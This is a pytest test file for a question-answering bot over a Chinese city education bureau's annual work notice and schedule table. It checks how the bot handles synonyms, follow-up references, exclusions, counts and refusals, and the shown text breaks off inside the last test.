

def test_a_date_of_the_notice_asked_gets_no_note_that_only_months_are_given(bot):
    a = bot.ask("通知是哪天发布的")
    assert a.found and "2024-02-26" in a.answer and "只写到月份" not in a.answer


def test_the_issuing_body_named_in_a_question_is_not_its_topic(bot):
    """教育局 (the issuer, asked to act) is written in one 配档表 row (市教育局老同志荣退仪式), which had
    been the answer to a question about bullying."""
    a = bot.ask("孩子在学校老被人欺负,教育局今年管不管")
    assert a.found and rows(a) == [] and items(a)[0] == 20


# --- synonyms: the words staff type for the notice's own --------------------------------------------

def test_the_synonym_table_holds_true_synonyms_of_two_characters_or_more():
    from bot.thesaurus import synonyms

    table = synonyms()
    assert "医生" in table["大夫"] and "教师" in table["教员"]
    assert all(len(w) >= 2 for w in table["大夫"])
    assert "大夫" not in table["大夫"]


def test_a_damaged_synonym_cache_is_made_again(tmp_path, monkeypatch):
    import bot.thesaurus as thesaurus

    monkeypatch.setenv("POLICYQA_CACHE", str(tmp_path))
    thesaurus.synonyms.cache_clear()
    thesaurus.synonyms()
    (cached,) = (tmp_path / "cilin").glob("synonyms-*.bin")
    cached.write_bytes(b"not marshal")
    thesaurus.synonyms.cache_clear()
    assert "医生" in thesaurus.synonyms()["大夫"]
    thesaurus.synonyms.cache_clear()


def test_bridges_are_the_notice_s_own_words_for_a_term_it_never_uses(bot):
    corpus = bot.corpus
    assert "教师" in corpus.bridges("教员")              # the notice says 教师, never 教员
    assert corpus.bridges("教师") == ()                  # a word it uses needs no bridge
    assert all(b in corpus.text for b in corpus.bridges("讲课"))


def test_an_adverb_is_not_searched_by_its_synonyms(bot):
    """越来越 (an adverb) → 进一步, written in many items, had pulled them above the one on 近视."""
    from bot.scope import with_bridges

    q = with_bridges(bot.understand("孩子近视越来越多怎么办"), bot.corpus)
    assert bot.corpus.bridges("越来越") and "进一步" not in q.bridges


@pytest.mark.parametrize("question", ["给教员搞培训吗", "教员的职业道德怎么抓"])
def test_a_question_in_synonyms_of_the_notice_s_words_is_answered(bot, question):
    a = bot.ask(question)
    assert a.found and 19 in items(a)


def test_a_refusal_does_not_name_a_word_the_notice_says_otherwise(bot):
    # Whether 教书的老师待遇怎么样 is answered is the fitted model's call; what a refusal names is not.
    from bot.scope import absent_terms

    q = bot.understand("教书的老师待遇怎么样")
    assert absent_terms(q, bot.corpus) == ["待遇"]       # 老师: the notice says 教师
    a = bot.ask("教书的老师待遇涨没涨,工资发多少")
    assert not a.found
    assert "待遇" in a.answer and "老师" not in a.answer


def test_a_question_in_the_notice_s_own_words_never_reads_the_synonym_table(bot):
    from bot.thesaurus import synonyms

    synonyms.cache_clear()
    bot.corpus._bridges.clear()
    assert bot.ask("普惠性幼儿园覆盖率目标是多少?").found
    assert synonyms.cache_info().currsize == 0


@pytest.mark.parametrize("question", ["2025年全国硕士研究生考试谁负责", "组织2025年全国硕士研究生考试是几月"])
def test_a_year_the_notice_writes_in_a_task_is_that_task_s_not_another_notice(bot, question):
    a = bot.ask(question)
    assert a.found and len(a.rows) == 1 and "2025" in bot.corpus.by_id[a.rows[0]].text


@pytest.mark.parametrize("follow_up,index,refers", [
    ("第一个是哪条里的", 0, "item"), ("第二项谁负责", 1, "who"), ("最后一个是几月", -1, "when"),
    ("the second one: who is responsible?", 1, "who"),
])
def test_a_task_of_the_last_list_by_its_place_in_it(bot, follow_up, index, refers):
    earlier = ["学前处都干啥"]
    listed = bot.ask(earlier[0]).rows
    assert len(listed) >= 3
    a = bot.ask(follow_up, earlier)
    row = bot.corpus.by_id[listed[index]]
    assert a.found
    if refers == "item":
        assert set(items(a)) == {r.item for r in bot.corpus.items_of_rows([row.id])}
    else:
        assert a.rows == (row.id,)


@pytest.mark.parametrize("follow_up", ["同一个月{office}还有别的任务吗", "那个月{office}呢", "当月{office}还有什么工作"])
def test_the_month_of_the_task_just_discussed(bot, follow_up):
    """同一个月 / 那个月 / 当月 after a task's month: that month (当月 had been read as today's month,
    同一个月 refused as a topic the notice lacks, 那个月 dropped)."""
    rows = bot.corpus.schedule
    row = next(r for r in rows if r.month and len(r.offices) == 1 and bot.ask(f"{r.text}是什么时候").rows == (r.id,)
               and sum(o.month == r.month and o.offices == r.offices for o in rows) >= 2)
    earlier = [f"{row.text}是什么时候"]
    a = bot.ask(follow_up.format(office=row.offices[0]), earlier)
    expected = [r.id for r in bot.corpus.filter_rows((row.month,), row.offices)]
    assert a.found and sorted(a.rows) == sorted(expected), a.answer


def test_a_place_beyond_the_last_list_is_asked_back_not_searched(bot):
    """第二个是第几条里的 after an answer of one task: the list is that short (it had been read as a
    topic search and refused with unrelated items)."""
    earlier = ["6月份基教处要完成哪些工作?"]
    n = len(bot.ask(earlier[0]).rows)
    a = bot.ask(f"第{n + 1}个是第几条里的", earlier)
    assert not a.found and f"只列了 {n} 项" in a.answer and not a.citations


def test_an_ordinal_that_names_a_thing_is_no_place_in_the_last_list(bot):
    """第40个教师节… after a list of one task: 第40个 is the thing's own number, not the 40th task."""
    earlier = ["6月份基教处要完成哪些工作?"]
    a = bot.ask("第40个教师节庆祝活动谁负责", earlier)
    assert a.found and "只列了" not in a.answer and any("教师节" in bot.corpus.by_id[r].text for r in a.rows)


def test_asking_which_month_that_month_is_names_it(bot):
    """那个月是几月, after a task's month: that month, not the month's whole list."""
    row = next(r for r in bot.corpus.schedule if r.month and bot.ask(f"{r.text}是什么时候").rows == (r.id,))
    a = bot.ask("那个月是几月", [f"{row.text}是什么时候"])
    assert a.found and a.rows == (row.id,) and f"{row.month}月" in a.answer


def test_a_task_no_item_speaks_of_stays_the_subject(bot):
    """它是第几条里的, of a 配档表 task no item carries out: that task is named with its row, and 它谁负责
    next is still about it (the empty answer had ended the conversation's subject)."""
    alone = next(r for r in bot.corpus.schedule if not bot.corpus.items_of_rows([r.id]))
    earlier = [f"{alone.text}是几月"]
    assert bot.ask(earlier[0]).rows == (alone.id,)
    a = bot.ask("它是第几条里的", earlier)
    assert a.found and a.rows == (alone.id,) and not items(a) and "没有直接对应的条目" in a.answer
    a = bot.ask("它谁负责", earlier + ["它是第几条里的"])
    assert a.found and a.rows == (alone.id,) and all(o in a.answer for o in alone.offices)


@pytest.mark.parametrize("question,item", [("工作要点里新增学位目标是多少?", 18), ("文件中新增学位多少个", 18),
                                           ("通知里普惠性幼儿园覆盖率目标是多少", 8)])
def test_words_naming_the_notice_itself_are_not_what_is_asked(bot, question, item):
    """通知 / 工作要点 / 文件里 point at the notice: never "the notice does not mention 要点里新增学位"."""
    a = bot.ask(question)
    assert a.found and items(a)[0] == item


def test_a_follow_up_s_own_words_pick_among_the_rows_it_points_at(bot):
    """新课堂 has two rows (启动第二期 in one month, a book series in another): 它第二期什么时候启动
    asks about the first only."""
    rows_ = [r for r in bot.corpus.schedule if "新课堂" in r.text]
    assert len(rows_) > 1
    a = bot.ask("它第二期什么时候启动", ["新课堂项目是怎么安排的"])
    assert a.found and [bot.corpus.by_id[r].text for r in a.rows] == [r.text for r in rows_ if "第二期" in r.text]


@pytest.mark.parametrize("question,item,term", [("孩子近视了学校管不管", 6, "近视"), ("学校保安有什么比赛", 20, "保安"),
                                                ("双减的成果怎么巩固", 7, "双减")])   # 7 ranks below two others
def test_of_two_close_items_the_one_naming_the_question_s_most_specific_term_answers(bot, question, item, term):
    a = bot.ask(question)
    assert a.found and items(a) == [item] and term in bot.items[a.citations[0].record_id].text


@pytest.mark.parametrize("question,item", [("中小学的孩子在学校吃饭安全吗", 20), ("中小学老师的师德怎么抓", 19)])
def test_a_word_many_items_write_is_not_the_specific_term_that_picks_the_item(bot, question, item):
    """中小学 is rare in general Chinese but written by many items of an education notice: it names
    none of them, so it must not pull the answer to the one item (党建) that happens to say it."""
    assert bot.corpus.item_share("中小学") >= bot.corpus.settings.common_share
    a = bot.ask(question)
    assert a.found and items(a)[0] == item


@pytest.mark.parametrize("question", ["课后服务的加班费怎么算", "课后服务老师的加班费给多少"])
def test_a_specific_thing_the_notice_never_names_is_not_answered_from_its_subject_s_item(bot, question):
    """课后服务 is in the best item, but 加班费 (a noun rare in general Chinese) is named nowhere."""
    a = bot.ask(question)
    assert not a.found and "“加班费”" in a.answer


@pytest.mark.parametrize("question", ["普惠性幼儿园的比例要到多少", "普惠园比例是多少", "优质园的比重有多少"])
def test_a_share_asked_in_other_words_is_the_share_the_notice_gives(bot, question):
    """比例 / 比重 are what the notice writes as 占比 (which the search cuts apart: 占|比达61%)."""
    a = bot.ask(question)
    assert a.found and items(a) == [8] and "%" in a.answer


@pytest.mark.parametrize("question,term", [("基教处的电话是多少", "电话"), ("体卫艺处处长是谁", "处长")])
def test_a_value_of_an_office_the_notice_never_names_is_refused_not_its_task_list(bot, question, term):
    a = bot.ask(question)
    assert not a.found and not a.rows and f"“{term}”" in a.answer


@pytest.mark.parametrize("question,office", [("基教处负责什么", "基教处"), ("职高教处负责哪些", "职高教处"),
                                             ("市教研院一共牵头多少工作", "市教研院")])
def test_an_office_s_tasks_asked_with_who_or_how_many_words_are_still_listed(bot, question, office):
    a = bot.ask(question)
    assert a.found and set(a.rows) == {r.id for r in bot.corpus.filter_rows((), (office,))}


@pytest.mark.parametrize("question,item", [("我也不是很确定该问谁,就是想知道普惠性幼儿园覆盖率目标是多少", 8),
                                           ("资源智作中心是哪个月、谁牵头成立的,我们学校要不要对接", 16)])
def test_a_question_asked_around_a_hesitation_is_answered_not_declined_as_advice(bot, question, item):
    a = bot.ask(question)
    assert a.found and item in [c.item for c in a.citations if c.item] + [
        i.item for r in a.rows for i, _ in bot.corpus.links[r]]


@pytest.mark.parametrize("question", ["我家孩子该上民办还是公办初中?", "孩子该不该报名课外班"])
def test_advice_alone_is_still_declined(bot, question):
    a = bot.ask(question)
    assert not a.found and "不提供个人建议" in a.answer


@pytest.mark.parametrize("question,term", [("今年还搞泉城最美教师评选吗", "最美教师"), ("写字节有什么安排", "写字节")])
def test_a_task_only_the_schedule_names_is_answered_with_its_rows(bot, question, term):
    assert not any(term in r.text for r in bot.corpus.items.values())
    a = bot.ask(question)
    got = [bot.corpus.by_id[r] for r in a.rows]
    assert a.found and got and all(term in r.text for r in got)


@pytest.mark.parametrize("first,follow_up,item", [("第14条讲的是什么", "配档表里对应的有哪些", 14),
                                                  ("第7条讲什么", "对应哪些配档表工作", 7)])
def test_the_rows_carrying_out_the_items_just_quoted_are_listed(bot, first, follow_up, item):
    a = bot.ask(follow_up, [first])
    (rec,) = bot.corpus.find_items((item,))
    assert a.found and set(a.rows) == {r.id for r in bot.corpus.rows_of_items({rec.id})}
    last = bot.ask("最后一个是谁负责", [first, follow_up])
    assert last.found and last.rows == (a.rows[-1],)



@pytest.mark.parametrize("question,term", [("shuangjian 的成果怎么巩固", "双减"), ("quanyuedu 工程是什么", "泉悦读")])
def test_a_term_of_the_notice_typed_in_pinyin_is_understood_and_said_so(bot, question, term):
    a = bot.ask(question)
    assert a.found and f"按“{term}”理解" in a.answer


def test_a_topic_the_month_asked_lacks_is_pointed_to_where_the_schedule_has_it(bot):
    """是不是8月份出台校外培训机构设置标准: no 8月 row names it; the note says which row does, never
    that the notice gives it no month."""
    (row,) = [r for r in bot.corpus.schedule if "校外培训机构设置标准" in r.text]
    a = bot.ask("是不是8月份出台校外培训机构设置标准")
    assert "没有直接提到" in a.answer and bot.corpus.cite(row).label in a.answer.split("以下是")[0]
    assert "未写责任处室和月份" not in a.answer


@pytest.mark.parametrize("question,office", [("上半年和下半年哪个任务多", None), ("督导室上半年和下半年分别几项", "督导室")])
def test_two_periods_named_are_counted_side_by_side(bot, question, office):
    rows_ = bot.corpus.filter_rows((), (office,) if office else ())
    first, second = (sum(1 for r in rows_ if r.month in months) for months in (range(1, 7), range(7, 13)))
    a = bot.ask(question)
    assert a.found and f"上半年{first}项、下半年{second}项" in a.answer
    assert len(a.rows) == first + second


@pytest.mark.parametrize("question,months", [("哪些工作是两个处室一起负责的", ()),
                                             ("上半年有哪些工作是几个部门共同负责的", tuple(range(1, 7)))])
def test_tasks_of_several_offices_together_are_the_rows_with_two_offices_or_more(bot, question, months):
    canon = bot.corpus.offices.canonical
    expected = {r.id for r in bot.corpus.filter_rows(months) if len({canon(o) or o for o in r.offices}) >= 2}
    a = bot.ask(question)
    assert a.found and expected and set(a.rows) == expected


def test_which_has_fewer_is_a_comparison_for_the_fewest(bot):
    """哪个月的任务比较少: the month with the fewest rows, as 最少 asks."""
    from collections import Counter

    counts = Counter(r.month for r in bot.corpus.schedule if r.month)
    fewest = min(counts.values())
    a = bot.ask("哪个月的任务比较少")
    assert a.found and "最少" in a.answer and f"共 {fewest} 项" in a.answer
    b = bot.ask("第一季度和第四季度哪个工作少")
    assert b.found and "较少的是" in b.answer


@pytest.mark.parametrize("question,short,full", [("统战方面今年有啥要求没", "统战", "统一战线"),
                                                 ("普高招生有什么安排", "普高", "普通高中"),
                                                 ("今年家教这块有啥", "家教", "家庭教育")])
def test_a_short_form_the_notice_never_writes_is_read_in_full_and_said_so(bot, question, short, full):
    """统战 is the first characters of 统一战线's two halves; the notice writes only the full word."""
    assert short not in bot.corpus.text and full in bot.corpus.text
    a = bot.ask(question)
    assert a.found and f"按“{full}”理解" in a.answer
    assert all(full in bot.corpus.by_id[c.record_id].text for c in a.citations if c.kind == "item")


@pytest.mark.parametrize("question", ["基教处6月有什么任务", "传统战略有哪些", "双减政策有什么措施"])
def test_no_short_form_is_read_into_an_office_name_across_words_or_a_word_the_notice_writes(bot, question):
    """基教 is part of the office 基教处; 统战 of 传统战略 spans two words; 双减 is the notice's own."""
    assert bot.understand(question).corrections == ()


# --- what a list leaves out, and the first or last of it ------------------------------------------

def cited_rows(bot, a):
    return [bot.corpus.by_id[c.record_id] for c in a.citations if c.kind == "schedule"]


@pytest.mark.parametrize("question,month,gone", [
    ("除了基教处,5月还有哪些处室有任务?", 5, {"基教处"}),
    ("12月除了组织人事处和教师处以外还有哪些工作", 12, {"组织人事处", "教师处"}),
    ("基教处以外的处室6月有什么工作", 6, {"基教处"}),
    ("5月除了基教处还有几项工作", 5, {"基教处"}),
])
def test_a_list_without_the_offices_it_leaves_out(bot, question, month, gone):
    """除了X / X以外 leave X's rows out; a row X shares with another office stays (that office has it)."""
    canon = bot.corpus.offices.canonical
    want = [r for r in bot.corpus.filter_rows((month,), ()) if not {canon(o) or o for o in r.offices} <= gone]
    a = bot.ask(question)
    assert a.found and cited_rows(bot, a) == want and f"共 {len(want)} 项" in a.answer
    assert "除" in a.answer.split("\n")[0]


def test_a_list_without_the_topic_it_leaves_out(bot):
    january = bot.corpus.filter_rows((1,), ())
    want = [r for r in january if "党建" not in r.text]
    assert 0 < len(want) < len(january)
    a = bot.ask("1月份除了党建方面的,还有哪些任务")
    assert cited_rows(bot, a) == want


def test_a_follow_up_can_leave_out_the_office_the_last_turn_asked_about(bot):
    canon = bot.corpus.offices.canonical
    want = [r for r in bot.corpus.filter_rows((6,), ()) if {canon(o) or o for o in r.offices} != {"基教处"}]
    a = bot.ask("那除了基教处呢", ["6月份基教处要完成哪些工作?"])
    assert a.found and cited_rows(bot, a) == want


@pytest.mark.parametrize("question,office,pick", [
    ("产业处最后一项工作是什么", "产业处", max), ("体卫艺处最晚的一项任务", "体卫艺处", max),
    ("市教研院第一个任务在几月", "市教研院", min), ("全年最早的任务是什么?", None, min),
])
def test_the_first_or_last_task_is_the_earliest_or_latest_month_of_those_asked(bot, question, office, pick):
    rows = [r for r in bot.corpus.filter_rows((), (office,) if office else ()) if r.months]
    when = pick(m for r in rows for m in r.months)
    a = bot.ask(question)
    got = cited_rows(bot, a)
    assert got and all(when in r.months for r in got) and len(got) == sum(when in r.months for r in rows)


@pytest.mark.parametrize("text,extreme", [("年底最后俩月产业处有啥", None), ("最后一个月有什么任务", None),
                                          ("产业处最后一项工作", "last"), ("最早的任务", "first")])
def test_last_months_of_a_period_are_a_period_not_the_last_task(text, extreme):
    assert parse(text, OfficeTable.load(), {}).extreme == extreme


@pytest.mark.parametrize("text,left_out,rest", [
    ("除了基教处,5月还有哪些处室有任务?", "基教处", ",5月还有哪些处室有任务?"),
    ("1月份除了党建方面的,还有哪些任务", "党建方面", "1月份 ,还有哪些任务"),
    ("基教处以外的处室6月有什么工作", "基教处", "处室6月有什么工作"),
    ("6月有什么任务", "", "6月有什么任务"),
])
def test_the_part_a_question_leaves_out_is_taken_from_its_text(text, left_out, rest):
    q = parse(text, OfficeTable.load(), {})
    assert (q.excluding, q.text) == (left_out, rest)


@pytest.mark.parametrize("word", ["是不是", "要不要", "能不能", "有没有", "对不对"])
def test_an_a_not_a_question_form_is_no_key_term(word):
    from bot.text import key_terms
    assert key_terms([word, "书香校园"]) == ["书香校园"]


@pytest.mark.parametrize("word", ["第几届", "第几轮", "几届", "几批", "第几次"])
def test_a_number_asked_with_its_measure_word_is_no_key_term(word):
    from bot.text import key_terms
    assert key_terms(["艺术节", word]) == ["艺术节"]


def test_an_edition_asked_is_answered_from_the_item_that_numbers_it(bot):
    """班级文化艺术节是第几届: 几届 is how the question asks, not a subject the notice lacks (it had
    been refused); the quoted sentence numbers the edition."""
    item = next(r for r in bot.corpus.items.values() if "班级文化艺术节" in r.text)
    a = bot.ask("班级文化艺术节是第几届")
    assert a.found and items(a) == [item.item]
    assert re.search(r"第\d+届班级文化艺术节", a.answer)


@pytest.mark.parametrize("question", ["齐鲁名师培养计划今年选几批", "今年新评几批齐鲁名师"])
def test_a_count_with_any_measure_word_checks_the_thing_counted(bot, question):
    """几批 asks a figure as 多少 does: what it counts must be in the evidence."""
    a = bot.ask(question)
    assert not a.found and "齐鲁名师" in a.answer


def test_an_ordinal_or_a_year_is_no_count(bot):
    """今年招多少老师: 做好第40个教师节… has 教师 and a number, but 第40个 counts no teachers."""
    from bot.scope import counts_something

    assert not counts_something("做好第40个教师节系列庆祝活动。") and not counts_something("2024年3月启动")
    assert not counts_something("做好第40个教师节系列庆祝活动。", "个") and not counts_something("推进一体化建设")
    assert counts_something("新建幼儿园60所") and counts_something("覆盖率稳定在95%左右") and counts_something("新建两所")
    assert counts_something("每天体育活动两小时") and counts_something("岗前培训七十二学时") and counts_something("最多三十天")
    assert counts_something("开展第三届读书节", "届") and not counts_something("开展第三届读书节")
    assert not any(map(counts_something, ("学习二十大精神", "编制十四五规划", "坚持五育并举")))
    assert counts_something("撰写党建案例二十篇") and counts_something("每次不少于九十分钟")
    a = bot.ask("今年招多少老师")
    assert not a.found


def test_sentences_apart_in_the_text_are_quoted_apart():
    """Two sentences quoted from one item: run together only when they follow each other there;
    else …… between them (a reader had taken 一是保障工资待遇。乡村教师生活补助… for one passage)."""
    from bot.text import joined_quote

    order = ["甲。", "乙。", "丙。", "丁。"]
    assert joined_quote(["丙。", "甲。"], order) == "甲。……丙。"
    assert joined_quote(["乙。", "甲。"], order) == "甲。乙。"
    assert joined_quote(["丁。"], order) == "丁。"


def test_the_page_marks_each_sentence_of_a_quote_with_a_gap():
    from app import _mark

    marked = _mark("甲。乙。丙。", "甲。……丙。")
    assert marked == "<mark>甲。</mark>乙。<mark>丙。</mark>"


def test_who_text_names_roles_only_when_asked_about_them():
    from bot.answer import who_text
    from ingest.records import Record

    r = Record(id="t:item:1", doc_id="t", kind="item", text="家校社协同育人。", offices=("德育科", "关工委"),
               support=("关工委",))
    assert who_text(r, "家校社协同育人谁负责") == "牵头单位:德育科;配合单位:关工委"   # 协同 of a topic
    assert who_text(r, "配合单位有哪些") == "配合单位:关工委" and who_text(r, "谁牵头") == "牵头单位:德育科"
    assert who_text(r, "参与单位有哪些") == "配合单位:关工委" and who_text(r, "哪些单位参与") == "牵头单位:德育科;配合单位:关工委"
    # Both roles asked: both named (only the lead, or only the support, had been).
    assert who_text(r, "由哪个科室牵头，配合的是谁") == who_text(r, "谁牵头？配合单位呢") == "牵头单位:德育科;配合单位:关工委"
    assert who_text(r, "配合的有谁") == "配合单位:关工委"
    assert who_text(r, "谁牵头，哪些单位配合") == who_text(r, "谁牵头哪些科室配合") == "牵头单位:德育科;配合单位:关工委"
    only = Record(id="t:item:2", doc_id="t", kind="item", text="甲。", offices=("各学校",), support=("各学校",))
    assert who_text(only, "谁牵头") == "配合单位:各学校"     # never an empty 牵头单位:
    assert who_text(Record(id="t:item:3", doc_id="t", kind="item", text="乙。", offices=("甲科",))) == "责任单位:甲科"


def test_the_supporting_offices_of_a_task_are_asked_of_its_row(bot):
    """…的配合处室有哪些: a who-question, answered from the task's 配档表 row."""
    row = next(r for r in bot.corpus.schedule if len(r.offices) >= 2 and bot.ask(f"{r.text}是什么时候").rows == (r.id,))
    a = bot.ask(f"{row.text}的配合处室有哪些")
    assert a.found and row.id in a.rows, a.answer


def test_a_same_month_follow_up_asking_when_keeps_that_month(bot):
    """当月其他工作什么时间开始: 当月 is the month just discussed, though 什么时间 asks when."""
    row = next(r for r in bot.corpus.schedule if r.month and bot.ask(f"{r.text}是什么时候").rows == (r.id,)
               and r.month != bot.understand("这个月").months[0])
    a = bot.ask("当月其他工作什么时间开始", [f"{row.text}是什么时候"])
    assert a.found and {bot.corpus.by_id[i].month for i in a.rows} == {row.month}


def test_a_yes_no_question_is_never_refused_for_its_question_form(bot):
    a = bot.ask("今年是不是要盖100所新学校?")
    assert "是不是" not in a.answer


@pytest.mark.parametrize("text,months", [("那个8月有几项工作", (8,)), ("这个8月呢", (8,)), ("两个3月", ())])
def test_that_month_is_a_month_and_two_months_are_a_count(text, months):
    assert parse(text, OfficeTable.load(), {}).months == months


def test_na_ge_points_back_to_the_last_answer(bot):
    (row,) = [r for r in bot.corpus.schedule if "泉引桥" in r.text]
    a = bot.ask("那个会是谁开的", ["泉引桥现场会几月开"])
    assert a.found and cited_rows(bot, a) == [row] and all(o in a.answer for o in row.offices)


@pytest.mark.parametrize("question,months,word", [("7月有没有关于安全的任务?", (7,), "安全"),
                                                  ("年底最后一个月跟考试有关的安排", (11, 12), "考试")])
def test_a_topic_the_question_frames_narrows_the_rows_however_common_the_word(bot, question, months, word):
    """关于X的 / 跟X有关的 make X the topic asked about, though 安全 or 考试 is an everyday word."""
    about = [r for r in bot.corpus.filter_rows(months, ()) if word in r.text]
    a = bot.ask(question)
    if about:
        assert cited_rows(bot, a) and set(cited_rows(bot, a)) <= set(about)
    else:   # none of the period's rows names it: said so, before its rows
        assert a.answer.startswith(f"配档表中{months[0]}月的工作没有直接提到“{word}”")


@pytest.mark.parametrize("question", ["我想请假去参加孩子家长会怎么办", "我家孩子能上哪个幼儿园"])
def test_a_personal_matter_is_declined_not_answered_from_the_notice(bot, question):
    a = bot.ask(question)
    assert not a.found and "个人建议" in a.answer


def test_a_task_no_row_is_found_for_is_not_said_to_have_no_row_when_its_item_has_rows(bot):
    """去外地拉投资 shares no word with its row (外出招商): not found, and the answer does not claim
    the 配档表 gives the item no time, for it does; it says how to see the item's rows."""
    a = bot.ask("去外地拉投资是哪个月")
    cited = [bot.corpus.by_id[c.record_id] for c in a.citations if c.kind == "item"]
    assert not a.found and cited and bot.corpus.rows_of_items({cited[0].id})
    assert "没有列出" not in a.answer and "什么时候、谁负责" in a.answer


@pytest.mark.parametrize("question,month,office", [("4月哪些任务不是基教处牵头的", 4, "基教处"),
                                                   ("9月份不归产业处管的任务有哪些", 9, "产业处")])
def test_rows_not_of_an_office(bot, question, month, office):
    canon = bot.corpus.offices.canonical
    want = [r for r in bot.corpus.filter_rows((month,), ()) if {canon(o) or o for o in r.offices} != {office}]
    assert cited_rows(bot, bot.ask(question)) == want


def test_a_when_who_chain_keeps_asking_when_who_after_a_pointer_turn(bot):
    """设置标准什么时候出台 → 由谁负责 (a pointer) → 那寄宿制培训机构管理办法呢: its row, not the item."""
    (row,) = [r for r in bot.corpus.schedule if "寄宿制培训机构管理办法" in r.text]
    a = bot.ask("那寄宿制培训机构管理办法呢", ["《济南市校外培训机构设置标准》什么时候出台", "由谁负责"])
    assert cited_rows(bot, a) == [row]


@pytest.mark.parametrize("question,yes", [("12月有没有督导室的任务?", True), ("6月基教处有什么任务", False),
                                          ("Are there any tasks for 基教处 in June?", True)])
def test_a_yes_no_schedule_question_is_answered_yes_first(bot, question, yes):
    a = bot.ask(question)
    assert a.found and a.answer.startswith(("有。", "Yes.")) == yes


def test_a_section_called_a_big_block(bot):
    q = bot.understand("第一大块的标题是啥")
    assert q.intent == "section" and q.sections == ("一",)


@pytest.mark.parametrize("question", ["五一前后有什么工作", "中文课有什么要求"])
def test_an_everyday_word_is_not_read_as_a_short_form(bot, question):
    """五一 and 中文 are the initials of 五位一体 and 中华文化, but common words meant as themselves."""
    assert bot.understand(question).corrections == ()


@pytest.mark.parametrize("question", ["学生资助工作算不算重点任务", "安全隐患排除工作是几月"])
def test_no_exclusion_is_read_from_other_senses_of_its_words(bot, question):
    assert bot.understand(question).excluding == ""


def test_a_common_topic_can_be_left_out(bot):
    canon = bot.corpus.offices.canonical
    mine = [r for r in bot.corpus.filter_rows((), ("基教处",))]
    want = [r for r in mine if "招生" not in r.text]
    assert len(want) < len(mine)
    assert cited_rows(bot, bot.ask("基教处的工作除了招生还有什么")) == want
    assert all(canon(o) for r in want for o in r.offices)


def test_leaving_out_a_name_the_notice_lacks_leaves_nothing_out_and_says_so(bot):
    june = bot.corpus.filter_rows((6,), ())
    a = bot.ask("除了泉优计划,6月还有什么")
    assert cited_rows(bot, a) == june and "未能按“泉优计划”排除" in a.answer


@pytest.mark.parametrize("text,extreme", [("第一个季度有哪些任务", None), ("打通最后一公里的工作", None),
                                          ("首个任务是什么", "first")])
def test_first_and_last_of_a_period_or_distance_are_no_extremes(text, extreme):
    assert parse(text, OfficeTable.load(), {}).extreme == extreme


def test_a_policy_question_about_children_is_not_a_personal_one(bot):
    assert bot.understand("随迁子女孩子能上公办学校吗").intent != "advice"


@pytest.mark.parametrize("question,months,name", [("下半年市里要召开哪些推进会?", tuple(range(7, 13)), "推进会"),
                                                 ("4月有哪些现场会", (4,), "现场会")])
def test_a_kind_of_meeting_named_by_its_last_character_narrows_the_rows(bot, question, months, name):
    """推进 + 会: the notices write 推进会 as one name; 推进 alone is too common to narrow anything."""
    want = [r for r in bot.corpus.filter_rows(months, ()) if bot.corpus.says(r.text, name)]   # 现场推进会 too
    assert want and cited_rows(bot, bot.ask(question)) == want


@pytest.mark.parametrize("question,word", [("基教处处长叫什么名字?", "处长"), ("基教处的负责人是谁?", "负责人"),
                                           ("基教处的电话是多少", "电话"), ("基教处3月的负责人是谁", "负责人")])
def test_a_person_or_contact_of_an_office_is_refused_not_answered_with_its_tasks(bot, question, word):
    a = bot.ask(question)
    assert not a.found and f"没有提到“{word}”" in a.answer


def test_an_office_responsible_for_personnel_work_is_asked_its_tasks(bot):
    """负责人事 is 负责 + 人事, not a question about the office's 负责人."""
    a = bot.ask("组织人事处负责人事方面的哪些工作")
    assert a.found and cited_rows(bot, a)


@pytest.mark.parametrize("question,topic", [("12月有哪些考核等工作", "考核"), ("1月有哪些资源智作中心的工作", None)])
def test_a_word_and_the_next_words_first_character_are_no_name(bot, question, topic):
    """考核 + 等 and 资源 + 智(作中心) are not names the rows are narrowed by."""
    from bot.scope import topic_terms
    terms = topic_terms(bot.understand(question), bot.corpus)
    assert "考核等" not in terms and "资源智" not in terms and (topic is None or topic in terms)


@pytest.mark.parametrize("turns,item", [
    (["出台名优骨干教师管理办法是哪个月?", "那它对应第几条?", "这一条还讲了什么?"], 19),
    (["督导室全年有哪些工作?", "其中下半年的呢?", "这两项对应第几条?"], 17)])
def test_this_item_and_these_two_point_back(bot, turns, item):
    a = bot.ask(turns[-1], turns[:-1])
    assert a.found and items(a) == [item]


def test_jiyuefen_asks_when_it_names_nothing(bot):
    """几月份 is 几月: not the question's rarest word, so rows sharing only 安全 are not the answer."""
    a = bot.ask("首届师生安全技能比赛几月份举行?")
    assert not a.found and not cited_rows(bot, a) and items(a) == [20]


def test_a_function_word_before_city_bureau_is_no_unheld_authority(bot):
    """就是市局 is 就是 + 市局 (the city's bureau): not an authority named 就是市局 the corpus lacks;
    青岛市教育局 is one."""
    from bot.scope import foreign
    assert foreign(bot.understand("就是市局今年开哪些会"), bot.corpus, None) is None
    assert foreign(bot.understand("就是市局今年开哪些会"), bot.corpus, ["就是", "市局"]) is None
    a = bot.ask("青岛市教育局今年有什么工作")
    assert not a.found and "青岛" in a.answer


@pytest.mark.parametrize("question,word", [("最近有什么工作", "最近"), ("区里今年有什么要求", "区里")])
def test_words_of_time_and_place_around_a_question_are_never_what_is_missing(bot, question, word):
    assert f"没有提到“{word}”" not in bot.ask(question).answer


@pytest.mark.parametrize("question,start", [("普惠性幼儿园覆盖率是不是超过90%", "是。"),
                                            ("公办园在园幼儿占比能到70%吗", "不是。"),
                                            ("普惠性幼儿园覆盖率目标是多少?", "据通知")])
def test_a_figure_a_yes_no_question_proposes_is_checked_against_the_notices(bot, question, start):
    """The figure compared is the one of the clause about what is asked (占比…61%, not 覆盖率…95%),
    and the answer says it: 通知写的是61%."""
    from bot.handlers.content import _PROPOSED
    a = bot.ask(question)
    assert a.found and items(a) == [8] and a.answer.startswith(start)
    if _PROPOSED.search(question):
        said = re.search(r"通知写的是(\d+%)", a.answer).group(1)
        assert said in bot.corpus.by_id[a.citations[0].record_id].text


@pytest.mark.parametrize("question", ["五月份配档表里安排了哪些工作?", "配档表里有没有关于语言文字的工作?"])
def test_the_table_named_is_the_scope_not_a_topic(bot, question):
    """配档表里 is cut 配档 + 表里; neither is a topic the rows must name."""
    from bot.scope import topic_terms
    q = bot.understand(question)
    assert q.intent == "schedule" and not {"表里", "配档"} & set(topic_terms(q, bot.corpus))


def test_a_name_the_notice_lacks_asked_of_the_table_is_refused(bot):
    a = bot.ask("配档表里提到泉优计划了吗")
    assert not a.found and "泉优计划" in a.answer


def test_a_follow_up_asking_the_tables_rows_of_an_item_is_the_dialogues(bot):
